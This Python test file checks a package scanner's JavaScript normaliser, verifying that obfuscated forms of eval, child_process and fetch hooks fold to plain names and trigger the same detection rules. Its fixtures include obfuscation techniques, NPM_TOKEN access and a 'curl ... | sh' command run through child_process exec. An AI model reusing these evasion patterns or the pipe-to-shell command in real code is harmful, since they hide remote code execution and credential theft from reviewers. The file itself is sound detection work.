"""The normalised view: each fold, plain and obfuscated variants giving the same finding, and the
evidence of a finding seen only after normalisation (issue 13 A)."""

from __future__ import annotations

import pytest

from chainwatch.analysis.engine import Engine
from chainwatch.analysis.normalize import normalize
from chainwatch.analysis.rules import load_rules
from chainwatch.model import Level, PackageFile, PackageRef
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import BENIGN_INDEX, manifest

ENGINE = Engine(load_rules())
SCANNER = Scanner(None, workers=1)


def view(src: str) -> str:
    return normalize(src.encode()).text.decode()


@pytest.mark.parametrize(("src", "expected"), [
    ("x = 'ev' + 'al'", 'x = "eval"'),
    ("x = `chi${'ld_'}process`", 'x = "child_process"'),
    ("x = String.fromCharCode(0x65, 118, 97, 108)", 'x = "eval"'),
    ("x = '\\x65\\u0076\\u{61}\\154'", 'x = "eval"'),
    ("x = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()", 'x = "child_process"'),
    ("x = Buffer.from('6368696c645f70726f63657373', 'hex').toString('utf8')",
     'x = "child_process"'),
    ("x = atob('ZXZhbA==')", 'x = "eval"'),
    ("var t = ['eval', 'child_process']; require(t[1])",
     "var t = ['eval', 'child_process']; require(\"child_process\")"),
    ("x = 'lave'.split('').reverse().join('')", 'x = "eval"'),
    ("global['ev' + 'al'](c)", "eval(c)"),
    ("process['env']['NPM_' + 'TOKEN']", "process.env.NPM_TOKEN"),
    ("require('chi' + 'ld_process')", 'require("child_process")'),
    ("var m = 'child_' + 'process'; require(m)", 'var m = "child_process"; require("child_process")'),
    ("Reflect.apply(eval, null, [c])", "eval(c)"),
    ("Function.prototype.call.call(eval, null, c)", "eval(c)"),
    ("eval.call(null, c)", "eval(c)"),
    ("eval.apply(undefined, [c])", "eval(c)"),
    ("global['ev' + 'al'].bind(null)(c)", "eval(c)"),
])
def test_each_fold(src: str, expected: str) -> None:
    assert view(src) == expected


@pytest.mark.parametrize("src", [
    "x = a + 'px'",                                   # not constant
    "x = Buffer.from('AAECAwQFBgcICQ==', 'base64')",  # decodes to binary: left alone
    "obj.method.call(this, a)",                       # an ordinary method call
    "x = t[i]",
    "var t = ['a']; t = []; x = t[0]",                # reassigned: not a constant
])
def test_what_does_not_fold(src: str) -> None:
    assert view(src) == src


def test_lines_stay_where_they_were() -> None:
    src = "x = 'a' +\n  'b' +\n  'c';\nrequire('chi' +\n 'ld_process').exec(c)\n"
    out = view(src)
    assert out.count("\n") == src.count("\n")
    assert out.splitlines()[0] == 'x = "abc"'
    assert out.splitlines()[3].startswith('require("child_process"')


def rules_of(src: str) -> set[str]:
    return {f.rule for f in ENGINE.scan_file(PackageFile("index.js", src.encode()))
            if f.rule != "CW-NORMALIZE-LIMIT"}


PAIRS = [
    ("eval(payload)", "global['ev' + 'al'](payload)", "CW-EVAL-DYNAMIC"),
    ("eval(payload)", "Reflect.apply(global[String.fromCharCode(101,118,97,108)], null, [payload])",
     "CW-EVAL-DYNAMIC"),
    ("eval(payload)", "var _t = ['ZXZhbA==']; global[atob(_t[0])](payload)", "CW-EVAL-DYNAMIC"),
    ("eval(payload)", "Function.prototype.call.call(eval, null, payload)", "CW-EVAL-DYNAMIC"),
    ("const o = window.fetch; window.fetch = async (...a) => { const r = await o(...a); return r; };",
     "const o = window['fe' + 'tch']; window[String.fromCharCode(102,101,116,99,104)] = "
     "async (...a) => { const r = await o(...a); return r; };", "CW-BROWSER-FETCH-HOOK"),
    ("require('child_process').exec('curl http://192.0.2.7/x | sh')",
     "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())"
     "['ex' + 'ec']('curl http://192.0.2.7/x | sh')", "CW-CAP-EXEC"),
]


@pytest.mark.parametrize(("plain", "obfuscated", "rule"), PAIRS)
def test_plain_and_obfuscated_give_the_same_finding(plain: str, obfuscated: str,
                                                    rule: str) -> None:
    assert rule in rules_of(plain)
    assert rule in rules_of(obfuscated)


def test_a_finding_from_the_view_keeps_the_files_line_and_shows_both_texts() -> None:
    src = "'use strict';\nconst a = 1;\nglobal['ev' + 'al'](payload);\n"
    found = [f for f in ENGINE.scan_file(PackageFile("lib/x.js", src.encode()))
             if f.rule == "CW-EVAL-DYNAMIC"]
    assert len(found) == 1
    f = found[0]
    assert (f.file, f.line) == ("lib/x.js", 3)
    assert f.snippet == "global['ev' + 'al'](payload);"
    assert f.normalized == "eval(payload);"
    assert f.to_dict()["normalized"] == "eval(payload);"


def test_the_surface_finding_is_not_repeated() -> None:
    found = ENGINE.scan_file(PackageFile("index.js", b"eval(payload + 'x' + 'y')"))
    evals = [f for f in found if f.rule == "CW-EVAL-DYNAMIC"]
    assert len(evals) == 1 and evals[0].normalized is None


def test_folded_names_never_hide_a_surface_finding() -> None:
    # the surface holds escapes (an obfuscation finding) that the view folds away
    src = "var k = '\\x65\\x76\\x61\\x6c\\x28\\x61\\x29\\x3b\\x65\\x76\\x61\\x6c';\nrun(k);\n"
    assert ("CW-OBF-ESCAPES" in rules_of(src)) == (
        "CW-OBF-ESCAPES" in {f.rule for f in ENGINE.scan_file(PackageFile("a.txt.js", src.encode()))})
    surface_only = ENGINE._findings(PackageFile("index.js", src.encode()),
                                    ENGINE._hits(PackageFile("index.js", src.encode()), ("code", "text")),
                                    False)
    assert {f.rule for f in surface_only} <= rules_of(src)


def test_benign_fixtures_stay_benign() -> None:
    for files in ({"package.json": manifest(version="1.0.1"), "index.js": BENIGN_INDEX},
                  {"package.json": manifest(version="1.0.1"),
                   "index.js": "module.exports = (o, k) => o['to' + 'String'].call(o) + k;\n"}):
        v = SCANNER.analyze(Loaded(PackageRef("left-padder", "1.0.1"), scan_snippet_files(files)),
                            None)
        assert v.level is Level.BENIGN, [f.rule for f in v.findings]


@pytest.mark.parametrize("src", [
    b"module.exports = global['\\x65val'];\n",
    b"module.exports = global['\\u0065val'];\n",
    b"module.exports = global['\\u{65}val'];\n",
    b"module.exports = require('child\\x5fprocess');\n",
])
def test_one_escaped_name_character_is_enough_to_normalise(src: bytes) -> None:
    view = normalize(src)
    assert view.changed
    assert b"eval" in view.text or b"child_process" in view.text


@pytest.mark.parametrize("src", [
    b"const NBSP = '\\u00a0', ESC = '\\x1b[0m';\nmodule.exports = s => s.replace(NBSP, ' ');\n",
    b"const q = 'it\\x27s', nl = '\\x0a';\nmodule.exports = q + nl;\n",
])
def test_escapes_of_ordinary_characters_are_no_sign(src: bytes) -> None:
    assert normalize(src).text is src  # not even parsed: nothing a rule could see changes
